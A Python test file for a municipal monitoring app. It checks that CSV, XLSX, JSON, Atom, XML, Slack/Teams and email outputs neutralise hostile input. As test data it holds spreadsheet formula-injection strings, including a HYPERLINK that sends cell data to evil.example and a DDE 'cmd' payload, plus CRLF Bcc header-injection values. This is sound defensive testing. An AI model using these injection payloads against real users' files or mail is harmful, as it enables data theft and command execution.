"""Each way out besides pages has its own escape: spreadsheets, feeds, records, chats, headers, names of files."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from email import message_from_bytes
from email.utils import getaddresses
from typing import Any
from zoneinfo import ZoneInfo

import lxml.etree
import pytest

from monitor.core.register import record_of, to_xml
from monitor.core.text import clean_line
from monitor.deliver.channels import Message, Point
from monitor.deliver.mail import Sender, build_mail
from monitor.deliver.webhook import Kind, payload
from monitor.models import Case
from monitor.steps.send import points_of
from monitor.web.atom import FeedEntry, atom
from monitor.web.downloads import Table, download, to_csv, to_json, to_xlsx
from tests.conftest import NOW
from tests.golden.digest.hostile import letter_of
from tests.xss.judge import faults_of_xml
from tests.xss.strings import ADDRESSES, STRINGS

FORMULAS = [
    f"{start}{formula}"
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "=\t")
    for formula in (
        'HYPERLINK("https://evil.example/?"&A1,"x")',
        "cmd|' /C calc'!A0",
        "1+1",
        "WEBSERVICE(A1)",
        "SUM(A1)",
    )
]
CELLS = [word.encode("utf-8", "replace").decode() for word in [*STRINGS, *FORMULAS]]
TABLE = Table(columns=("Rubrik", "=1+1"), rows=[(cell, "x") for cell in CELLS], zone=ZoneInfo("Europe/Stockholm"))
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def test_no_cell_of_csv_begins_like_a_formula_and_every_word_is_there() -> None:
    content = to_csv(TABLE).decode("utf-8-sig")
    head, *rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
    assert head == ["Rubrik", "'=1+1"]
    assert len(rows) == len(CELLS)
    for (cell, _), word in zip(rows, CELLS, strict=True):
        assert not cell.startswith(STARTS)
        assert cell == ("'" + word if word.startswith(STARTS) else word)


def test_a_workbook_holds_no_formula_no_link_and_is_xml() -> None:
    with zipfile.ZipFile(io.BytesIO(to_xlsx(TABLE))) as book:
        for name in book.namelist():
            root = lxml.etree.fromstring(book.read(name), lxml.etree.XMLParser(resolve_entities=False))
            found = {lxml.etree.QName(element).localname for element in root.iter()}
            assert not found & {"f", "hyperlink", "hyperlinks", "externalReference", "ddeLink"}, name
            assert b"evil.example" not in book.read(name) or name == "xl/sharedStrings.xml"


def test_json_holds_the_words_and_is_never_taken_for_a_page() -> None:
    assert [row["Rubrik"] for row in json.loads(to_json(TABLE))] == CELLS
    answer = download(TABLE, "json", "arkiv")
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["content-disposition"] == 'attachment; filename="arkiv.json"'


def test_atom_is_xml_and_links_to_http_alone() -> None:
    entries = [
        FeedEntry(url=f"https://a.example/{number}", link="", title=word, at=NOW, summary=word, source=word)
        for number, word in enumerate(STRINGS)
    ]
    answer = atom(STRINGS[0], "https://a.example/arkiv.atom", STRINGS[1], entries, now=NOW)
    assert faults_of_xml(bytes(answer.body)) == []
    assert bytes(answer.body).count(b"<entry>") == len(STRINGS)


def test_a_record_is_xml_whatever_it_holds() -> None:
    for word in STRINGS:
        case = Case(number="261124-1", title=word, note=word, received=NOW, sender=word, matter=word, answer_link=word)
        root = lxml.etree.fromstring(to_xml(record_of(case, [], [], [], made_at=NOW)))
        assert root.findtext("schema") == "town-monitor/case/1"
        assert len(root) == 6


# --- chats -----------------------------------------------------------------------------------------------


def parts(value: Any, kind: str) -> Iterator[dict[str, Any]]:
    """Every element of that type in a card or block."""
    if isinstance(value, dict):
        if value.get("type") == kind:
            yield value
        for inner in value.values():
            yield from parts(inner, kind)
    elif isinstance(value, list):
        for inner in value:
            yield from parts(inner, kind)


CALLS = [
    "<!channel>", "<!here|x>", "<@U1>", "<https://evil.example|Klicka>", "*fet* _kursiv_ `kod`", "&lt;!channel&gt;",
    "[x](https://evil.example)", "<at>alla</at>", ":wave:",
]  # fmt: skip
"""What chats take for markup or for a call to everybody."""
OTHERS = {
    Kind.TEAMS: ("TextBlock", "mention", "Image"),
    Kind.SLACK: ("mrkdwn", "user", "usergroup", "broadcast", "image", "emoji"),
}


@pytest.mark.parametrize("kind", [Kind.TEAMS, Kind.SLACK])
def test_a_chat_reads_no_markup_and_no_call_out_of_a_headline(kind: Kind) -> None:
    for word in [*CALLS, *STRINGS]:
        posted = json.loads(json.dumps(payload(message(word), kind)))
        shown = clean_line(word)[:40]
        assert not [found for other in OTHERS[kind] for found in parts(posted, other)]
        text = "TextRun" if kind is Kind.TEAMS else "text"
        assert any(shown in run["text"] for run in parts(posted, text))
        assert kind is Kind.TEAMS or not re.search("[<>]", posted["text"])


def message(word: str) -> Message:
    return Message(key="k", subject=word, text=word, points=(Point(word, "https://a.example/", word),))


def test_the_points_of_a_letter_link_to_http_alone() -> None:
    points = [
        point
        for start in range(0, len(ADDRESSES), 10)
        for point in points_of(letter_of(["snälla ord"], ADDRESSES[start : start + 10]))
    ]
    assert len(points) > 50
    assert all(re.match(r"https?://[^/]|$", point.url) for point in points)
    assert any(point.url for point in points)


# --- headers ---------------------------------------------------------------------------------------------


def mail(word: str) -> bytes:
    sender = Sender(address="brev@kommun.example", name=word, list_id="brev.kommun.example")
    told = Message(key="k@kommun.example", to="a@kommun.example", name=word, subject=word, text="x")
    return build_mail(told, sender, language="sv", date=NOW)


def test_no_word_makes_a_header_of_a_mail_wherever_it_stands() -> None:
    """Sender's name, recipient's name, subject and the list's name."""
    meant = message_from_bytes(mail("Hej")).keys()
    assert len(set(meant)) == len(meant)
    for word in [*STRINGS, "a\r\nBcc: x@evil.example", "=?utf-8?q?a=0D=0ABcc:_x?=", '"x" <evil@evil.example>, b']:
        read = message_from_bytes(mail(word))
        assert read.keys() == meant
        assert getaddresses(read.get_all("From", []))[0][1] == "brev@kommun.example", word
        assert [address for _, address in getaddresses(read.get_all("To", []))] == ["a@kommun.example"], word
        assert str(read["List-Id"]).rstrip().endswith("<brev.kommun.example>"), word
